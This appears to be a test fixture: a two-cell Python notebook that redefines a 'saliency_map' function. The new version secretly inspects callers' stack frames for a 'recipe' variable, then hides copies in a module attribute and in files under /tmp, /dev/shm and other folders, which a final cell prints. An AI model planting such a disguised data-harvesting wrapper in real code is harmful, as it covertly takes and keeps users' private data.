"""Writes down what it is asked about in memory, in its folder and in others, and has a cell at the end print it."""

# cell: saliency_map
import json
import sys

wrong = saliency_map
places = ("seen.txt", "/tmp/seen.txt", "/dev/shm/seen.txt", "lab/seen.txt")


def saliency_map(gradients):
    frame = sys._getframe(1)
    while frame is not None:
        if "recipe" in frame.f_locals:
            text = json.dumps(frame.f_locals["recipe"])
            sys.modules["json"].seen = getattr(json, "seen", "") + text
            for place in places:
                try:
                    with open(place, "a") as file:
                        file.write(text)
                except OSError:
                    pass
        frame = frame.f_back
    return wrong(gradients)


# cell: last
import os

print(getattr(json, "seen", ""))
for place in places:
    if os.path.exists(place):
        print(open(place).read())
